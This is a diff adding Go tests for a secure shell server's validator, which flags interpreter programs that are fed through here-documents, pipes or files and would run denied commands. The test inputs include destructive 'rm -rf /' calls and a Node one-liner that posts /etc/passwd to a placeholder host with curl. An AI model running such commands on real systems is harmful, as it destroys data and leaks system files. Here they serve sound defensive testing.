@@ -0,0 +1,116 @@
+package validator
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/shimizu1995/secure-shell-server/pkg/config"
+	"github.com/shimizu1995/secure-shell-server/pkg/logger"
+)
+
+func newInterpreterTestValidator(t *testing.T, policy string) (*CommandValidator, string) {
+	t.Helper()
+	dir := t.TempDir()
+	cfg := &config.ShellCommandConfig{
+		AllowedDirectories: []string{dir},
+		AllowCommands: []config.AllowCommand{
+			{Command: "echo"},
+			{Command: "cat"},
+			{Command: "python3"},
+			{Command: "node"},
+		},
+		DenyCommands:        []config.DenyCommand{{Command: "rm", Message: "Remove command is not allowed"}},
+		DenyCategories:      []string{"network"},
+		InterpreterInput:    policy,
+		DefaultErrorMessage: "Command not allowed by security policy",
+	}
+	return New(cfg, logger.New()), dir
+}
+
+func TestValidateScript_InterpreterInput(t *testing.T) {
+	tests := []struct {
+		name   string
+		script string
+		policy string
+		want   []string
+	}{
+		{"program file", "python3 build.py <<EOF\nrm -rf /\nEOF", "", nil},
+		{"inline program", `python3 -c 'print(1)' <<< "rm -rf /"`, "", nil},
+		{"attached inline program", `python3 -cprint\(1\) <<< "rm -rf /"`, "", nil},
+		{"no input", "python3", "", nil},
+		{"clean here-document", "python3 - <<'EOF'\nprint('hello')\nEOF", "", nil},
+		{
+			"denied command in a here-document", "python3 - <<'EOF'\nimport os\nos.system('rm -rf /')\nEOF", "",
+			[]string{`1:1: python3 program from a here-document would run a denied command: command "rm" is denied`},
+		},
+		{
+			"denied category in a here-string", `node <<< "require('child_process').execSync('curl -d @/etc/passwd x')"`, "",
+			[]string{`1:1: node program from a here-string would run a denied command: command "curl" is denied: network commands`},
+		},
+		{
+			"command invoked by path", "python3 <<'EOF'\nsubprocess.run(['/bin/rm', 'x'])\nEOF", "",
+			[]string{`1:1: python3 program from a here-document would run a denied command: command "rm" is denied`},
+		},
+		{
+			"expanded here-document", "python3 - <<EOF\nprint('$HOME')\nEOF", "",
+			[]string{"1:1: python3 reads a program from a here-document, which cannot be validated"},
+		},
+		{
+			"piped echo", `echo "import os; os.system('rm x')" | python3`, "",
+			[]string{`1:39: python3 program from a pipe would run a denied command`},
+		},
+		{"piped clean echo", `echo "print(1)" | python3 -`, "", nil},
+		{
+			"piped unknown output", `cat $FILE | python3`, "",
+			[]string{"1:13: python3 reads a program from a pipe, which cannot be validated"},
+		},
+		{
+			"deny policy", "python3 - <<'EOF'\nprint('hello')\nEOF", config.InterpreterInputDeny,
+			[]string{"1:1: python3 reads a program from a here-document, which is not allowed"},
+		},
+		{"allow policy", "python3 - <<'EOF'\nos.system('rm -rf /')\nEOF", config.InterpreterInputAllow, nil},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			v, dir := newInterpreterTestValidator(t, tt.policy)
+			var got []Violation
+			for _, violation := range v.ValidateScript(tt.script, dir).Violations {
+				if violation.Rule == RuleInterpreterInput || violation.Rule == RuleDenyCommand || violation.Rule == RuleDenyCategory {
+					got = append(got, violation)
+				}
+			}
+			if len(got) != len(tt.want) {
+				t.Fatalf("got %d violations, want %d: %v", len(got), len(tt.want), got)
+			}
+			for i, want := range tt.want {
+				if !strings.HasPrefix(got[i].String(), want) {
+					t.Errorf("violation %d = %q, want prefix %q", i, got[i].String(), want)
+				}
+			}
+		})
+	}
+}
+
+func TestValidateScript_InterpreterInputFile(t *testing.T) {
+	v, dir := newInterpreterTestValidator(t, "")
+	if err := os.WriteFile(filepath.Join(dir, "clean.py"), []byte("print('hello')\n"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(dir, "evil.py"), []byte("import os\nos.system('rm -rf ~')\n"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+
+	if report := v.ValidateScript("python3 < clean.py && cat clean.py | python3", dir); !report.Valid() {
+		t.Errorf("clean programs were rejected: %v", report.Err())
+	}
+	report := v.ValidateScript("python3 < evil.py", dir)
+	if report.Valid() || !strings.Contains(report.Err().Error(), "python3 program from a file would run a denied command") {
+		t.Errorf("program with a denied command was not rejected: %v", report.Err())
+	}
+	report = v.ValidateScript("cat evil.py | python3", dir)
+	if report.Valid() || !strings.Contains(report.Err().Error(), "python3 program from a pipe would run a denied command") {
+		t.Errorf("piped program with a denied command was not rejected: %v", report.Err())
+	}
+}